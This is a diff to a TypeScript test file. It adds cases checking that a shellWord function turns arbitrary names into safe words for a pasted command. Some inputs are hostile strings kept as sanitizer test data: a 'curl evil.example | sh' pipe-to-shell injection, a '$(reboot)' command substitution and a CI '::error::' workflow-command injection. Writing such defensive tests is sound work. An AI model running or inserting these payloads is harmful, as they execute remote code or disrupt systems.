@@ -1,6 +1,6 @@
 import { describe, expect, it } from "vitest";
 import type { Json } from "./types.ts";
-import { code, codeValue, count, inWords, nearest, plural, visible } from "./words.ts";
+import { code, codeValue, count, inWords, nearest, plural, shellWord, visible } from "./words.ts";
 
 it("a word goes with its number", () => {
   expect([1, 2].map((number) => count(number, "property", "properties"))).toEqual(["1 property", "2 properties"]);
@@ -73,3 +73,13 @@ describe("nearest", () => {
     expect(nearest(word, names)).toBe(expected);
   });
 });
+
+it.each([
+  ["github", "github"],
+  ["my server", "my-server"],
+  ["x; curl evil.example | sh", "x-curl-evil-example-sh"],
+  ["a\n::error::b", "a-error-b"],
+  ["$(reboot)", "reboot"],
+  ["--force", "force"],
+  ["…", "tools"],
+])("%j is %s in a command to paste", (name, word) => expect(shellWord(name)).toBe(word));
